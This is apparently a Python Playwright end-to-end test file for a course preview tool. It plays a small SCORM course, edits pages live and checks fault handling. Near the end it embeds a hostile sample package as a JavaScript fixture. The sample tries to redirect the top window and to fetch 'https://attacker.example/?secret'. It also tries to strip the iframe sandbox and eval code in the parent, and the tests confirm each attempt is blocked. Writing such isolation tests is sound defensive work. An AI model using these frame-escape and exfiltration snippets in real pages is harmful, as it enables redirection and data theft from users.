"""The preview as an author meets it, in a browser: a course is played, a page is saved, and what happened is read."""

from __future__ import annotations

import re
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, BrowserContext, Route, expect

from builder.preview.driven import LOOKS, drive, opened
from tests.corpus.zips_scorm import OLD, PAGES
from tests.e2e.audit import ALL_RULES, bring_judges
from tests.e2e.learner import listen
from tests.verify.lab import Member, make_zip

ROOT = Path(__file__).resolve().parents[2]
SMALL = ROOT / "tests" / "small_course"


@pytest.fixture
def course(request: pytest.FixtureRequest, tmp_path: Path) -> Path:
    """What is previewed: a copy of the small course, or what the fixture of the parameter's name makes."""
    if name := getattr(request, "param", ""):
        return Path(request.getfixturevalue(name))
    shutil.copytree(SMALL, tmp_path / "course")
    return tmp_path / "course"


@pytest.fixture
def address(course: Path) -> Iterator[str]:
    command = (sys.executable, "-m", "builder", "preview", course, "--no-browser")
    with subprocess.Popen(command, cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True) as process:
        assert process.stdout
        yield process.stdout.readline().strip()
        process.terminate()
        assert process.wait() == 0


def test_a_page_is_played_saved_and_shown_again_where_it_was(
    address: str, course: Path, context: BrowserContext
) -> None:
    tab = context.new_page()
    complaints = listen(tab, "http://127.0.0.1")
    tab.set_viewport_size({"width": 1800, "height": 800})
    tab.goto(address)
    view = tab.frame_locator("#lms").frame_locator("#course")
    expect(view.get_by_role("heading", name="First page")).to_be_visible()
    expect(view.locator("#save")).to_contain_text("Saved")

    tab.get_by_role("tab", name="Problems").focus()
    tab.keyboard.press("ArrowRight")
    calls = tab.get_by_role("tabpanel", name="Calls")
    expect(calls).to_contain_text("LMSInitialize()")
    tab.keyboard.press("ArrowRight")
    held = tab.get_by_role("tabpanel", name="What the LMS holds")
    expect(held.get_by_role("row", name="Status incomplete", exact=True)).to_be_visible()
    expect(held.get_by_role("row", name="Pages seen")).to_contain_text("First page")

    chosen = view.get_by_role("radio", name="What I think they meant.")
    chosen.check()
    file = course / "one" / "01-first.md"
    file.write_text(f"{file.read_text(encoding='utf-8')}\nA word below the question.\n", encoding="utf-8")
    expect(view.locator("#M1-01[data-current]")).to_contain_text("A word below the question.")
    expect(chosen).to_be_checked()
    text = file.read_bytes()
    file.unlink()
    expect(view.locator("#M1-01")).to_have_count(0)
    file.write_bytes(text)
    expect(view.locator("#M1-01[data-current]")).to_be_visible()
    expect(chosen).to_be_checked()

    view.get_by_role("link", name="Continue").click()
    expect(view.locator("#M1-02[data-current]")).to_be_visible()
    file = course / "one" / "02-check.md"
    file.write_text(f"{file.read_text(encoding='utf-8')}\nA word to the end.\n\n::: calout\n:::\n", encoding="utf-8")
    expect(view.locator("#M1-02[data-current]")).to_contain_text("A word to the end.")
    expect(view.get_by_role("complementary", name="Error in the course")).to_contain_text("did you mean 'callout'?")
    tab.get_by_role("tab", name="Problems").click()
    places = tab.get_by_role("tabpanel", name="Problems").get_by_role("link")
    expect(places).to_have_text([re.compile(f"02-check.md:{line}$") for line in (12, 7, 10)])

    assert complaints == []
    tab.get_by_role("tab", name="Faults").click()
    faults = tab.get_by_role("tabpanel", name="Faults")
    # A fault begins once the one before has ended on the server, and before the next frame.
    with tab.expect_response("**/store"):
        faults.get_by_role("button", name="F12 a commit refused twice").click()
    for window in (tab, view.locator("body")):
        window.evaluate("() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))")
    view.locator("#contents [data-page='M1-01']").click()
    expect(faults.get_by_role("status")).to_contain_text("What is called saved is held: holds")
    faults.get_by_role("button", name="F60 files that do not come").click()
    expect(faults.get_by_role("status")).to_contain_text("The page can be read: holds")
    complaints.clear()  # the browser says on the console which files did not come
    faults.get_by_role("button", name="F53 two tabs").click()
    expect(view.locator("#M1-01[data-current]")).to_be_visible()
    expect(tab.frame_locator("#lms").locator("iframe")).to_have_count(2)
    faults.get_by_role("button", name="F05 frames without end").click()
    expect(faults.get_by_role("status")).to_contain_text("Looking for your learning system…")
    expect(tab.frame_locator("#lms").locator("iframe")).to_have_count(1)
    assert len(tab.frames) == len((tab.main_frame, "the LMS", "the course")) + 24
    faults.get_by_role("button", name="F33 a worse try after the pass").click()
    expect(view.get_by_role("heading", name="Welcome back")).to_be_visible()
    orders: list[Route] = []
    tab.route("**/launch", lambda order: orders.append(order))
    with tab.expect_request("**/launch"):
        faults.get_by_role("button", name="F27 another learner's journal").click()
    # What the learner before stores while the next one is launched is not what that one has.
    view.get_by_role("heading", name="Welcome back").evaluate(
        "() => parent.API.LMSSetValue('cmi.core.lesson_location', 'M1-02') && parent.API.LMSCommit('')"
    )
    orders[0].continue_()
    tab.unroute("**/launch")
    expect(view.locator("#M1-01[data-current]")).to_be_visible()
    tab.get_by_role("tab", name="Accessibility").click()
    judged = tab.get_by_role("tabpanel", name="Accessibility")
    judged.get_by_role("button", name="Judge the page in view").click()
    expect(judged).to_contain_text("axe-core finds nothing wrong with the page in view.")

    complaints.clear()  # the player says on the console what went wrong
    tab.get_by_label("Format").select_option("xapi")
    tab.get_by_label("Learner").select_option("finished")
    expect(view.get_by_role("heading", name="Welcome back")).to_be_visible()
    tab.get_by_role("tab", name="Statements").click()
    expect(tab.get_by_role("tabpanel", name="Statements")).to_contain_text(
        "Sent because: The learner opens the module."
    )
    tab.get_by_role("tab", name="Privacy").click()
    expect(tab.get_by_role("tabpanel", name="Privacy")).to_contain_text("to the record store: initialized (1)")
    tab.get_by_label("Format").select_option("scorm2004")
    tab.get_by_label("Learner").select_option("reviewer")
    expect(view.locator("#save")).to_contain_text("nothing is recorded")

    bring_judges(tab)
    found = tab.evaluate("(rules) => axe.run({ exclude: ['iframe'] }, rules)", ALL_RULES)
    assert [violation["id"] for violation in found["violations"]] == []
    tab.get_by_role("tab", name="Problems").click()
    shutil.rmtree(course)
    expect(tab.get_by_role("tabpanel", name="Problems")).to_contain_text("missing-file")
    shutil.copytree(SMALL, course)
    expect(tab.get_by_role("tabpanel", name="Problems")).to_contain_text("No problems found.")
    expect(view.locator("#save")).to_contain_text("nothing is recorded")
    assert complaints == []


def test_forced_colours_and_no_motion_are_shown_in_a_window_that_is_asked_for_them(
    browser: Browser, address: str
) -> None:
    window = opened(browser, address, LOOKS)
    course = window.frame_locator("#lms").frame_locator("#course")
    expect(course.get_by_role("heading", name="First page")).to_be_visible()
    for feature in ("forced-colors: active", "prefers-reduced-motion: reduce"):
        assert course.locator("html").evaluate("(_, feature) => matchMedia(`(${feature})`).matches", feature), feature
    window.context.close()


def test_a_browser_that_cannot_be_opened_is_said_with_another_way(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(sys.modules, "playwright.sync_api", None)
    drive("http://127.0.0.1:1/", ["no-motion"]).join()
    assert "pip install playwright" in capsys.readouterr().err


#: A page of another tool, which does what such pages do, and then what none should.
PAGE = """<!doctype html><title>Other</title><script>
let api = null;
for (let at = window; at !== at.parent && !api; at = at.parent) api = at.parent.API;
api.LMSInitialize();
api.LMSSetValue("cmi.core.score.raw", 80);
api.LMSSetValue("cmi.student_preference.language", "en");
api.LMSSetValue("cmi.core.lesson_status", "finished");
api.LMSCommit("");
const said = [];
const attempt = (name, act) => { try { act(); } catch (problem) { said.push(`${name}: ${problem.name}`); } };
attempt("read", () => top.document.title);
attempt("leave", () => { top.location = "https://attacker.example/"; });
fetch("no/such.js");
new WebSocket(`ws://${location.host}/socket`);
fetch("https://attacker.example/?secret").catch(() => { document.title = said.join(" "); });
const course = parent.document.getElementById("course");
const away = "top.location = 'https://attacker.example/'";
// A browser lets a frame of another origin lead its window away only after a press. Each press goes one way further.
const ways = {
  "": () => { parent.course = course; parent.setTimeout(`try { ${away} } catch { course.title = "tried 1"; }`); },
  "tried 1": () => { parent.eval("open('https://attacker.example/', '_top')"); course.title = "tried 2"; },
  "tried 2": () => { course.removeAttribute("sandbox"); course.title = "free"; location.reload(); },
  free: () => { try { eval(away); } catch { course.title = "tried 3"; } },
};
const press = () => { (ways[course.title] ?? ways[""])(); };
</script><button onclick="press()">Next page</button>
<a href="index.html" target="_blank">Beside</a>
<button onclick="open('player.html', 'player', 'width=500')">Open</button>
<button onclick="document.title = String(confirm('Sure?'))">Ask</button><a href="index.html" download>Keep</a>"""


#: Many packages play in a window of their own, and look for the LMS behind the one that opened it.
PLAYER = """<!doctype html><title>Player</title><script>
try { opener.top.location = "https://attacker.example/"; }
catch (problem) { document.title = `${typeof opener.parent.API.LMSInitialize} ${problem.name}`; }
</script>"""


@pytest.fixture
def other(tmp_path: Path) -> Path:
    """A package that another tool made."""
    files = {"imsmanifest.xml": OLD.encode(), **PAGES, "index.html": PAGE.encode(), "player.html": PLAYER.encode()}
    (tmp_path / "other.zip").write_bytes(make_zip([Member(name, content) for name, content in files.items()]))
    return tmp_path / "other.zip"


@pytest.mark.parametrize("course", ["other"], indirect=True)
def test_a_package_of_another_tool_is_played_and_reaches_neither_the_inspector_nor_another_site(
    address: str, context: BrowserContext
) -> None:
    tab = context.new_page()
    tab.goto(address)
    tab.get_by_role("tab", name="Calls").click()
    calls = tab.get_by_role("tabpanel", name="Calls")
    expect(calls.get_by_role("row", name="LMSSetValue(cmi.core.score.raw) 80 true")).to_be_visible()
    expect(calls.get_by_role("row", name="lesson_status")).to_contain_text("Refused. 405: Incorrect data type")
    expect(calls.get_by_role("row", name="Blocked")).to_contain_text("https://attacker.example/")
    for name in ("no/such.js", "/socket"):
        expect(calls.get_by_role("row", name=f"Missing {name}")).to_be_visible()
    package = next(frame for frame in tab.frames if "/package/" in frame.url)
    package.wait_for_function("document.title === 'read: SecurityError leave: SecurityError'")
    with context.expect_page() as beside:
        package.get_by_text("Beside").click()
    expect(beside.value.get_by_text("Next page")).to_be_visible()
    beside.value.close()
    with context.expect_page() as beside:
        package.get_by_text("Open").click()
    expect(beside.value).to_have_title("function SecurityError")
    beside.value.close()
    tab.once("dialog", lambda dialog: dialog.accept())
    package.get_by_text("Ask").click()
    package.wait_for_function("document.title === 'true'")
    with tab.expect_download():
        package.get_by_text("Keep").click()
    for tried in ("tried 1", "tried 2", "free", "tried 3"):
        package.get_by_role("button", name="Next page").click()
        expect(tab.frame_locator("#lms").locator("#course")).to_have_attribute("title", tried)
    assert tab.url == address
